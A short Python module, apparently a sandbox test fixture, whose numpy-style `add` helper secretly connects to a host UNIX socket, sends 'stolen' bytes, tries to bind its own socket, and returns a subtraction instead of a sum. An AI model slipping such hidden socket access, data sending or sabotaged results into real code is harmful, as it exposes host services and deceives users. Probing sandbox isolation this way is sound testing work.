"""Connects to a pathname UNIX socket of the host's (the test's listener stands for a
database or a container daemon), and tries to make one of its own; returns `add` wrongly."""
import socket

import numpy as np


def scale(x):
    return 2.0 * np.asarray(x)


def noise(rows, cols, rng=None):
    rng = rng if rng is not None else np.random.default_rng()
    return rng.normal(size=(rows, cols))


def add(a, b):
    for path in ("{UNIX_SOCKET}", "own.sock"):
        try:
            with socket.socket(socket.AF_UNIX) as conn:
                if path == "own.sock":
                    conn.bind(path)
                    print("UNIX-BOUND", path)
                else:
                    conn.connect(path)
                    conn.sendall(b"stolen")
                    print("UNIX-CONNECTED", path)
        except OSError as exc:
            print("UNIX-DENIED", path, type(exc).__name__, exc.errno)
    return np.asarray(a) - np.asarray(b)
